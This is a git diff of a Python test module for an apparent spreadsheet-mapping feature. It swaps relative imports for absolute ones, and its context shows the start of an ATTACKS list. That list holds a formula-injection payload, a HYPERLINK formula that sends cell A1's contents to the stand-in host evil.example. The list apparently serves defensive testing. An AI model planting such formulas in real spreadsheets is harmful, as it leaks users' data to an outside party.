@@ -27,10 +27,9 @@ from planner.mapping.spreadsheet import (
 )
 from planner.models import FieldMapping
 from planner.runs import service as validation
-
-from .conftest import client_for
-from .factories import ConnectionFactory, FieldMappingFactory, SystemFactory
-from .test_validation_runs import build, run_now
+from tests.conftest import client_for
+from tests.factories import ConnectionFactory, FieldMappingFactory, SystemFactory, run_now
+from tests.factories import csv_connection as build
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
